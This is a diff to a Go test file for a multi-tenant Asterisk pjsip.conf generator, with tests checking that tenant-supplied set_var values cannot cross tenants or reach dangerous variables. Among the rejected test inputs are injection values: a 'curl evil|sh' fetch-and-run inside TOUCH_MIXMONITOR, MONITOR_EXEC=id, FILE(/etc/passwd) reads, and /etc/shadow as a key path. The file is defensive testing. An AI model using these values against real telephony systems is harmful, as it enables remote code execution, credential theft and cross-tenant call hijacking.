@@ -43,7 +43,7 @@ func withTexts(tb testing.TB, typed string) *confdsvc.Snapshot {
 	}
 	for _, e := range s.Endpoints {
 		e.Label = &typed
-		e.Endpoint.V = append(e.Endpoint.V, []string{"callerid", typed}, []string{"set_var", "OWN=" + typed}, []string{"set_var", typed + "=1"},
+		e.Endpoint.V = append(e.Endpoint.V, []string{"callerid", typed}, []string{"set_var", "own=" + typed}, []string{"set_var", typed + "=1"},
 			[]string{"accountcode", typed}, []string{"moh_suggest", typed}, []string{"named_call_group", typed}, []string{"language", typed}, []string{typed, typed})
 		e.AOR.V = append(e.AOR.V, []string{"contact", typed})
 	}
@@ -80,7 +80,7 @@ func FuzzTypedTextsAreNoSyntax(f *testing.F) {
 		f.Add(typed)
 	}
 	plain := checkFiles(f, generate(f, withTexts(f, "a,b")))
-	optional := map[string]bool{"contact": true, "accountcode": true, "language": true, "domain": true, "named_call_group": true, "moh_suggest": true}
+	optional := map[string]bool{"contact": true, "accountcode": true, "language": true, "domain": true, "named_call_group": true, "moh_suggest": true, "set_var": true}
 	without := func(names []string) []string {
 		return slices.DeleteFunc(names, func(name string) bool { return optional[name] })
 	}
@@ -130,7 +130,7 @@ func TestNothingLeadsIntoAnotherTenant(t *testing.T) {
 		[]string{"aors", "bob"}, []string{"auth", "bob"}, []string{"outbound_auth", "bob"}, []string{"mailboxes", "100@" + theirs}, []string{"incoming_mwi_mailbox", "1@" + theirs},
 		[]string{"identify_by", "ip"}, []string{"call_group", "1"}, []string{"pickup_group", "1"}, []string{"named_pickup_group", "sales"}, []string{"allow_unauthenticated_options", "yes"},
 		[]string{"set_var", "WAZO_USERUUID=" + bob}, []string{"set_var", "__WAZO_USERUUID=" + bob}, []string{"set_var", "ringfence_own_mailbox=1@" + theirs},
-		[]string{"set_var", "FILE(/etc/passwd)=x"}, []string{"set_var", "DB(ringfence/x/dnd)=1"}, []string{"set_var", "TRANSFER_CONTEXT=" + theirs}, []string{"set_var", "MINE=1"},
+		[]string{"set_var", "FILE(/etc/passwd)=x"}, []string{"set_var", "DB(ringfence/x/dnd)=1"}, []string{"set_var", "TRANSFER_CONTEXT=" + theirs}, []string{"set_var", "mine=1"},
 		[]string{"dtls_private_key", "/etc/shadow"}, []string{"acl", "x"})
 	s.Endpoints[0].Identify.V = [][]string{{"match", "0.0.0.0/0"}}
 	s.Extensions[0].Context = theirs
@@ -156,18 +156,44 @@ func TestNothingLeadsIntoAnotherTenant(t *testing.T) {
 		got = append(got, v.Name+"="+v.Text)
 	}
 	text := strings.Join(got, "\n")
-	for _, wrong := range []string{theirs, "usersharedlines", "ringfence-users", "=bob", "identify", "MINE()", "FILE(", "DB(", bob, "call_group=1\n", "unauthenticated", "dtls", "acl"} {
+	for _, wrong := range []string{theirs, "usersharedlines", "ringfence-users", "=bob", "identify", "mine()", "FILE(", "DB(", bob, "call_group=1\n", "unauthenticated", "dtls", "acl"} {
 		if strings.Contains(text, wrong) {
 			t.Errorf("%s is in\n%s", wrong, text)
 		}
 	}
-	for _, right := range []string{"named_call_group=" + acme + "-1", "named_pickup_group=" + acme + "-1," + acme + "-sales", "set_var=MINE=1", "aors=alice"} {
+	for _, right := range []string{"named_call_group=" + acme + "-1", "named_pickup_group=" + acme + "-1," + acme + "-sales", "set_var=mine=1", "aors=alice"} {
 		if !strings.Contains(text, right) {
 			t.Errorf("%s is not in\n%s", right, text)
 		}
 	}
 	if strings.Contains(string(files["pjsip.conf"]), "type = identify") {
 		t.Error("a telephone is known by its address")
+	}
+}
+
+// Asterisk obeys variables with names in capitals: who may set one of them could run a program, or send a call into another tenant.
+func TestVariablesThatAsteriskObeys(t *testing.T) {
+	for _, typed := range []string{
+		"TOUCH_MIXMONITOR=x.wav,,curl evil|sh #", "TOUCH_MIXMONITOR=x.wav", "__TOUCH_MIXMONITOR=x", "MONITOR_EXEC=id", "GOTO_ON_BLINDXFR=" + theirs + "^101^1", "__GOTO_ON_BLINDXFR=a",
+		"OUTBOUND_GROUP=" + bob + "@ringfence", "__OUTBOUND_GROUP_ONCE=a", "ABORT_DIALING=1", "DYNAMIC_FEATURES=x", "MINE=1", "Y=1", "X=1", "___mine=1", "_=1", "1a=1", " mine=1", "mine =1",
+		"mine=a,b", "mine=a^b", "X_A=a,b", "CHANNEL(language)=en", "X_A(b)=c", "x(y)=z", "mine", "Dialgroup=1", "wazo_userid=1", "RingfenceX=1", "X_A\n=1",
+	} {
+		s := company(t)
+		s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V, []string{"set_var", typed})
+		if got, want := string(generate(t, s)["pjsip.conf"]), string(generate(t, company(t))["pjsip.conf"]); got != want {
+			t.Errorf("%q is written", typed)
+		}
+	}
+	for _, typed := range []string{"mine=1", "_mine=1", "__mine=a;b", "X_A=1", "__X_1=1", "Mine=1", "MInE=", "X_a=b=c"} {
+		s := company(t)
+		s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V, []string{"set_var", typed})
+		var written bool
+		for _, v := range checkFiles(t, generate(t, s))["pjsip.conf"].Section("alice").Values {
+			written = written || v.Name == "set_var" && v.Text == typed
+		}
+		if !written {
+			t.Errorf("%q is not written", typed)
+		}
 	}
 }
 
